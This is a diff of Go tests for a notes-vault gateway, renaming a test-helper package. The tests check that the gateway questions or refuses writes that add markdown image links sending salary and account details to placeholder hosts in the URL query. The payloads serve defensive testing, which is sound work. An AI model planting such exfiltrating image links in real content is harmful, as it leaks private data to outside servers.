@@ -12,15 +12,15 @@ import (
 	"github.com/vaultwicket/vaultwicket/internal/access"
 	"github.com/vaultwicket/vaultwicket/policy"
 	"github.com/vaultwicket/vaultwicket/tests/assert"
+	"github.com/vaultwicket/vaultwicket/tests/harness"
 	"github.com/vaultwicket/vaultwicket/tests/require"
-	"github.com/vaultwicket/vaultwicket/tests/rig"
 	"github.com/vaultwicket/vaultwicket/tiers"
 )
 
 const salary = "# Salary\nAnna earns **ninety thousand** euros a year; her account is DE89370400440532013000.\n![](https://img.example/logo.png?t=Anna+earns+ninety+thousand+euros)\n"
 
-func withSalary(t *testing.T, change func(*policy.Policy)) *rig.Harness {
-	o := rig.NewHarness(t, func(c *gateway.Config) {
+func withSalary(t *testing.T, change func(*policy.Policy)) *harness.InProcess {
+	o := harness.NewInProcess(t, func(c *gateway.Config) {
 		c.Policy.Confirm, c.Policy.Suspicious, c.Policy.Secrets = policy.ConfirmDestructive, policy.SuspiciousNotice, policy.SecretsRedact
 		if change != nil {
 			change(&c.Policy)
@@ -63,15 +63,15 @@ func TestAnAddressWithTextOfAnotherNoteIsAskedAbout(t *testing.T) {
 			continue
 		}
 		o.Refusing(text, policy.CodeUnconfirmed, func() string {
-			got, asked := o.Do([]string{"append", "path=root.md", "content=" + text}, rig.Says(consent.No))
+			got, asked := o.Do([]string{"append", "path=root.md", "content=" + text}, harness.Says(consent.No))
 			require.Equal(t, len(asked), 1, "%s: %d questions: %+v", text, len(asked), asked)
 			assert.Contains(t, asked[0].Text, `adds an address with text of "Salary.md"`,
 				"%s: %d questions: %+v", text, len(asked), asked)
-			return rig.CodeOf(got)
+			return harness.CodeOf(got)
 		})
 		o = o.Again(nil) // which remembers no answer
 	}
-	got, asked := o.Do([]string{"append", "path=Key.md", "content=![](https://e.example/?q=" + mark + ")"}, rig.Says(consent.Yes))
+	got, asked := o.Do([]string{"append", "path=Key.md", "content=![](https://e.example/?q=" + mark + ")"}, harness.Says(consent.Yes))
 	if len(asked) != 1 || !strings.Contains(asked[0].Text, `adds an address with a secret to "Key.md"`) || !got.OK {
 		t.Errorf("a mark in an address: %d questions, %+v: %+v", len(asked), asked, got.Error)
 	}
@@ -89,16 +89,16 @@ func TestAnAddressInPartsIsRefused(t *testing.T) {
 		assert.That(t, got.OK, "%q: %+v", words, got.Error)
 		assert.Equal(t, len(asked), 0, "%q: %+v", words, got.Error)
 	}
-	if got, _ := o.Do([]string{"vault:replace", "old=~~", "new=ps:"}); rig.CodeOf(got) != policy.CodeUnconfirmed ||
+	if got, _ := o.Do([]string{"vault:replace", "old=~~", "new=ps:"}); harness.CodeOf(got) != policy.CodeUnconfirmed ||
 		strings.Contains(o.Read("Part.md"), "https") {
 		t.Errorf("%+v: %s", got.Error, o.Read("Part.md"))
 	}
-	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, rig.Says(consent.Yes))
+	got, asked := o.Do([]string{"create", "path=root.md", "overwrite", "content=![](https://e.example/?q=anna+earns+ninety+thousand)"}, harness.Says(consent.Yes))
 	assert.That(t, got.OK, "%d questions, %+v", len(asked), got.Error)
 	assert.Equal(t, len(asked), 1, "%d questions, %+v", len(asked), got.Error)
 	assert.Contains(t, o.Read("root.md"), "ninety", "%d questions, %+v", len(asked), got.Error)
-	batch, _ := o.Batch([]gateway.Operation{rig.Operation("a", "append", "path=Key.md",
-		"content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, rig.Says(consent.No))
+	batch, _ := o.Batch([]gateway.Operation{harness.Operation("a", "append", "path=Key.md",
+		"content=![](https://f.example/?q=anna+earns+ninety+thousand)")}, harness.Says(consent.No))
 	assert.That(t, !batch.OK, "%+v", batch)
 	assert.NotContains(t, o.Read("Key.md"), "ninety", "%+v", batch)
 }
@@ -107,7 +107,7 @@ func TestAnAddressInPartsIsRefused(t *testing.T) {
 func TestWhoMayAddAddresses(t *testing.T) {
 	t.Parallel()
 	const content = "content=![](https://e.example/p.png?q=anna+earns+ninety+thousand)"
-	rules := rig.Rules(t, map[string]access.Level{"/": access.Write})
+	rules := harness.Rules(t, map[string]access.Level{"/": access.Write})
 	for name, test := range map[string]struct {
 		change func(*policy.Policy)
 		code   string // with the answer no
@@ -123,16 +123,16 @@ func TestWhoMayAddAddresses(t *testing.T) {
 		"never, allow":       {func(p *policy.Policy) { p.Confirm, p.RemoteLinks = policy.ConfirmNever, true }, "", ""},
 		"no right to delete": {func(p *policy.Policy) { p.Access = rules }, policy.CodeAccess, ""},
 		"the note is hidden": {func(p *policy.Policy) {
-			p.Access = rig.Rules(t, map[string]access.Level{"/": access.Delete, "Salary.md": access.None})
+			p.Access = harness.Rules(t, map[string]access.Level{"/": access.Delete, "Salary.md": access.None})
 		}, "", ""},
 	} {
 		o := withSalary(t, test.change)
 		var answers []func(consent.Question) consent.Reply
 		if test.code == policy.CodeUnconfirmed {
-			answers = append(answers, rig.Says(consent.No))
+			answers = append(answers, harness.Says(consent.No))
 		}
 		got, _ := o.Do([]string{"append", "path=root.md", content}, answers...)
-		assert.That(t, rig.CodeOf(got) == test.code, "%s: %+v", name, got.Error)
+		assert.That(t, harness.CodeOf(got) == test.code, "%s: %+v", name, got.Error)
 		o.Gateway.Flush()
 		logged := ""
 		for line, err := range audit.Lines(t.Context(), filepath.Join(o.State, "vaultwicket"), audit.Filter{}) {
